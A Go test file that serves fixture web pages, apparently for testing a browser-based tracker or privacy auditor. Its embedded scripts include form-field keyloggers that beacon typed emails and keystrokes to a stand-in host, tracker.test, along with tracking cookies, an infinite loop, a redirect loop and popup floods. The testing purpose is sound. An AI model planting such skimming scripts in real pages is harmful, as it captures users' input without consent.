package browser

import (
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"

	"golang.org/x/net/websocket"
)

// site serves the test pages, by host name and path, and counts what it
// receives in env.
func site(e **testEnv) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		env := *e
		host, _, _ := strings.Cut(r.Host, ":")
		body, _ := io.ReadAll(r.Body)
		env.hit(host+r.URL.Path, string(body))
		key := host + r.URL.Path
		switch key {
		case "www.site.test/":
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: "abcdef", Path: "/", HttpOnly: true, Secure: true, SameSite: http.SameSiteLaxMode})
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, homePage)
		case "www.site.test/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `fetch("/api/data").then(r => r.text());`)
		case "tracker.test/t.js":
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Access-Control-Allow-Origin", "*")
			http.SetCookie(w, &http.Cookie{Name: "trk", Value: "0123456789", Path: "/", MaxAge: 86400 * 30, Secure: true, SameSite: http.SameSiteNoneMode})
			fmt.Fprint(w, `var x = new XMLHttpRequest(); x.open("GET", "https://tracker.test/pixel?x=1"); x.send();`)
		case "frame.test/frame.html":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, framePage)
		case "frame.test/nested.html":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><p id="nested">nested frame</p><script>localStorage.setItem("nested-key", "v")</script>`)
		case "www.site.test/form":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, formPage)
		case "www.site.test/hang", "www.site.test/slow.png":
			<-r.Context().Done() // never answers
		case "www.site.test/never":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><title>never</title><p>loading forever</p><img src="/slow.png">`)
		case "www.site.test/setck":
			http.SetCookie(w, &http.Cookie{Name: "only-" + r.URL.Query().Get("v"), Value: "1", Path: "/"})
			fmt.Fprint(w, `<!doctype html><p>cookie set</p>`)
		case "www.site.test/busy":
			// A script that never yields: the renderer is stuck.
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><title>busy</title><p>busy</p><script>setTimeout(function () { for (;;) {} }, 50)</script>`)
		case "www.site.test/bounce":
			// Navigates to itself forever.
			w.Header().Set("Content-Type", "text/html")
			n, _ := strconv.Atoi(r.URL.Query().Get("n"))
			fmt.Fprintf(w, `<!doctype html><p>bounce %d</p><script>location.replace("/bounce?n=%d")</script>`, n, n+1)
		case "www.site.test/popups":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><p id="stay">popups</p><script>for (var i = 0; i < 50; i++) { window.open("/setck?v=popup" + i); }</script>`)
		case "www.site.test/alert":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><script>alert("hello"); confirm("sure?");</script><p id="after">after the dialogs</p>`)
		case "www.site.test/export.csv":
			w.Header().Set("Content-Type", "text/csv")
			w.Header().Set("Content-Disposition", `attachment; filename="export.csv"`)
			fmt.Fprint(w, "nom;email\nDupont;dupont@example.test\n")
		case "tracker.test/ws":
			websocket.Handler(func(c *websocket.Conn) {
				var msg string
				if websocket.Message.Receive(c, &msg) == nil {
					env.hit("ws-message:"+msg, "")
				}
			}).ServeHTTP(w, r)
		case "www.site.test/socket":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><script>
for (const scheme of ["wss", "ws"]) {
  const ws = new WebSocket(scheme + "://tracker.test/ws");
  ws.onopen = () => ws.send("hello-" + scheme);
}
</script>`)
		case "www.site.test/refresh":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><meta http-equiv="refresh" content="0; url=/">`)
		case "www.site.test/tall":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><body style="margin:0"><div style="height:30000px;background:linear-gradient(red,blue)">tall</div>`)
		case "www.site.test/bench":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, benchPage)
		case "www.site.test/style.css":
			w.Header().Set("Content-Type", "text/css")
			fmt.Fprint(w, `body{font-family:sans-serif} form{margin:1em}`)
		case "www.site.test/redirect":
			http.Redirect(w, r, "https://www.site.test/", http.StatusFound)
		default:
			w.Header().Set("Access-Control-Allow-Origin", "*")
			w.Header().Set("Content-Type", "text/plain")
			fmt.Fprint(w, "ok")
		}
	})
}

const homePage = `<!doctype html>
<html><head><title>Home</title>
<link rel="stylesheet" href="/style.css">
<script src="/app.js"></script>
<script src="https://tracker.test/t.js"></script>
</head><body>
<h1>Mairie</h1>
<div id="slot"></div>
<iframe src="https://frame.test/frame.html"></iframe>
<script>
const f = document.createElement("form");
f.id = "injected"; f.action = "/contact"; f.method = "post";
f.innerHTML = '<label for="m">Courriel</label><input id="m" name="email" type="email">';
document.getElementById("slot").appendChild(f);
document.cookie = "jsck=42; path=/";
localStorage.setItem("ls-key", "value123");
sessionStorage.setItem("ss-key", "xy");
fetch("https://tracker.test/collect", {method: "POST", body: "hello=world"});
navigator.sendBeacon("https://tracker.test/beacon", "beacon-data");
fetch("https://tracker.test/big", {method: "POST", body: "x".repeat(100000)});
</script>
</body></html>`

const framePage = `<!doctype html><html><body>
<form name="frameform" action="/subscribe"><input name="newsletter-email" type="email"></form>
<iframe src="https://frame.test/nested.html"></iframe>
<script>document.querySelector("input").addEventListener("input",
  e => navigator.sendBeacon("https://tracker.test/framekey", e.target.value));</script>
</body></html>`

const formPage = `<!doctype html><html><body>
<form id="contact" action="/submit" method="post">
<label>Nom <input name="nom" id="nom"></label>
<input name="email" id="email" type="email" placeholder="Votre courriel">
<input type="hidden" name="token" value="t">
<textarea name="message"></textarea>
<fieldset disabled><legend> Are you a
 union member? </legend><input name="demo" id="demo"></fieldset>
<button type="submit">Envoyer</button>
</form>
<script>
const form = document.getElementById("contact");
document.getElementById("email").addEventListener("input", e => {
  navigator.sendBeacon("https://tracker.test/keylog", "v=" + encodeURIComponent(e.target.value));
});
document.getElementById("email").addEventListener("change", e => {
  fetch("https://tracker.test/change", {method: "POST", body: JSON.stringify({email: e.target.value})});
  form.submit();
  form.requestSubmit();
});
document.getElementById("nom").addEventListener("keydown", e => {
  navigator.sendBeacon("https://tracker.test/key", e.key);
});
</script>
</body></html>`

const benchPage = `<!doctype html>
<html><head><title>Bench</title>
<link rel="stylesheet" href="/style.css">
<script src="/app.js"></script>
<script src="https://tracker.test/t.js"></script>
</head><body>
<h1>Démarches</h1>
<p>Texte d'une page ordinaire, avec un formulaire de contact.</p>
<form action="/submit" method="post">
<label>Nom <input name="nom"></label>
<label>Courriel <input name="email" type="email"></label>
<textarea name="message"></textarea>
<button>Envoyer</button>
</form>
<script>document.cookie = "pref=1; path=/"; localStorage.setItem("visited", "1");</script>
</body></html>`
